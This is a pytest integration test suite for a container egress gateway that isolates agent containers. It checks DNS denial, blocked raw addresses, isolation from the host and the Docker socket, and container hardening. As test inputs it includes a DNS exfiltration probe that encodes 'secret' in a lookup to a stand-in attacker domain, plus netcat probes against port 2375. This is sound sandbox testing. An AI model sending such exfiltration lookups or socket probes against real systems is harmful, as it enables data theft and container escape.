"""The shapes that deploy/compose ships, as a user brings them up, on a real engine: the old stack's own checks hold in each.

The files are used as they are; servers are the lab's. The witness is at zero for each deny.
"""

import socket
import time

import pytest

from shape import ALLOWED, DENIED, OTHER, Stack
from small_internet import world

GATE = "172.20.0.1"


@pytest.fixture(scope="module", params=["transparent", "proxy", "cells"])
def stack(request, engine, lab):
    made = Stack(engine, lab, request.param)
    yield made
    made.close()


def test_nslookup(stack, witness):
    with witness.expect_zero():
        run = stack.shell("nslookup", DENIED)
    assert run.returncode != 0, run
    run = stack.shell("nslookup", ALLOWED)
    assert run.returncode == 0, run


def test_no_other_resolver_is_asked(stack, engine, witness):
    """NFT-09: the host's resolver is on loopback, where the engine would ask it for its containers; here nobody is asked but us."""
    before = len(engine.loopback_resolver.asked)
    with witness.expect_zero():
        for server in ([], ["127.0.0.11"], ["8.8.8.8"], ["127.0.1.1"]):
            run = stack.shell("nslookup", "c2VjcmV0.evil.com", *server)
            assert run.returncode != 0, (server, run)
    with witness.watch() as seen:
        assert stack.shell("nslookup", ALLOWED).returncode == 0
    assert {q.name for q in seen.asked} <= {ALLOWED}, seen.asked
    assert engine.loopback_resolver.asked[before:] == []


def test_curl_of_a_denied_name_is_refused_with_a_reason(stack, witness):
    with witness.expect_zero():
        run = stack.curl(f"https://{DENIED}/")
    assert run.returncode != 0, run
    if stack.shape == "proxy":
        assert "403" in run.stderr, run
    records = [r for r in stack.audit() if r["name"] == DENIED and r["verdict"] == "deny"]
    assert records and all(r["reason"] == "no_rule" for r in records), stack.audit()[-5:]


def test_curl_of_an_allowed_name_works(stack):
    run = stack.curl(f"https://{ALLOWED}/")
    assert run.returncode == 0 and "small internet" in run.stdout, f"{run}\n{stack.logs()}"


def test_a_raw_address_fails_at_once(stack, witness):
    began = time.monotonic()
    with witness.expect_zero():
        for address in ("1.1.1.1", world.EVIL4):
            # --fail: clear HTTP may be answered, by the gateway and with a 403.
            for url in (f"https://{address}/", f"http://{address}:8080/"):
                run = stack.curl("--fail", "--noproxy", "*", url)
                assert run.returncode != 0, run
    assert time.monotonic() - began < 6


def test_the_supervisor_is_reachable(stack):
    run = stack.curl("--noproxy", "*", "http://supervisor:8080/")
    assert run.returncode == 0 and "supervisor here" in run.stdout, run


def test_agents_reach_neither_each_other_nor_the_host(stack, engine, lab, witness):
    """NFT-10: other containers, the bridge's address, Docker's default bridge, the host's own, where Docker's socket may listen."""
    if stack.shape == "cells":
        addresses = {"172.17.0.1", "172.21.0.1", world.HOST4}
    else:
        peer = engine.docker("inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", stack.container("agent2")).stdout.strip()
        stack.shell("/bin/sh", "-c", "while true; do echo other agent | nc -l -p 9999; done", service="agent2", options=("-d",))
        addresses = {peer, GATE, "172.17.0.1", world.HOST4}
    with lab.namespaces.inside(lab.namespaces.host_fd):
        servers = [socket.create_server(("0.0.0.0", port), reuse_port=True) for port in (9999, 2375)]
    try:
        for address in addresses:
            for port in (9999, 2375, 22):
                began = time.monotonic()
                run = stack.shell("/bin/sh", "-c", f"echo hello | nc -w 3 {address} {port}")
                assert run.returncode != 0 or not run.stdout, (address, port, run)
                assert time.monotonic() - began < 5
        for name in ("host.docker.internal", "gateway.docker.internal"):
            assert stack.shell("nslookup", name).returncode != 0
        if stack.shape == "proxy":  # by way of the proxy, too
            for address in [*addresses, "host.docker.internal", "localhost", "127.0.0.1"]:
                run = stack.curl("-o", "/dev/null", "-w", "%{http_code}", "--noproxy", "", f"http://{address}:2375/")
                assert run.stdout in ("400", "403"), (address, run)
        for server in servers:
            server.setblocking(False)
            with pytest.raises(BlockingIOError):
                server.accept()
        for address in addresses - {GATE}:
            assert stack.shell("ping", "-c", "1", "-W", "1", address).returncode != 0
    finally:
        for server in servers:
            server.close()


def test_adding_a_name_is_one_edit_live_within_a_second(stack, witness):
    with witness.expect_zero():
        assert stack.curl(f"https://{OTHER}/").returncode != 0
    began = stack.started()
    assert len(began) >= 3, began
    stack.edit("api.openai.com]", f"api.openai.com, {OTHER}]")
    time.sleep(1)
    run = stack.curl(f"https://{OTHER}/")
    assert run.returncode == 0 and "small internet" in run.stdout, f"{run}\n{stack.logs()}"
    stack.edit(f", {OTHER}]", "]")
    time.sleep(1)
    with witness.expect_zero():
        assert stack.curl(f"https://{OTHER}/").returncode != 0
    assert stack.started() == began


def test_the_gateway_stands_as_the_compose_file_says(stack, engine):
    state = stack.inspect(stack.gateway)
    host = state["HostConfig"]
    assert host["ReadonlyRootfs"] and host["NetworkMode"] == "host" and not host["Privileged"] and host["CapDrop"] == ["ALL"]
    with open(f"/proc/{state['State']['Pid']}/mounts") as mounts:
        assert [line.split()[3].split(",")[0] for line in mounts if line.split()[1] == "/"] == ["ro"]
    assert state["State"]["Running"] and state["RestartCount"] == 0
    if stack.shape == "cells":
        assert "SYS_ADMIN" in host["CapAdd"] and "Health" not in state["State"]
        return
    assert state["State"]["Health"]["Status"] == "healthy"
    assert not {"SYS_ADMIN", "SYS_PTRACE", "DAC_OVERRIDE"} & {c.removeprefix("CAP_") for c in host["CapAdd"]}
    assert "no-new-privileges:true" in host["SecurityOpt"] and host["Memory"] and host["PidsLimit"]
    # What was said at the start is no warning.
    assert "warning[" not in engine.docker("logs", stack.container("gateway")).stderr


def test_agents_are_hardened(stack):
    state = stack.inspect("agent")["HostConfig"]
    assert state["ReadonlyRootfs"] and state["CapDrop"] == ["ALL"] and "no-new-privileges:true" in state["SecurityOpt"]
    assert state["Memory"] and state["PidsLimit"] and state["NanoCpus"]


def test_one_line_of_json_a_decision(stack):
    for record in stack.audit():
        assert record["schema"] == "sallyport.audit/1"
    assert stack.audit()
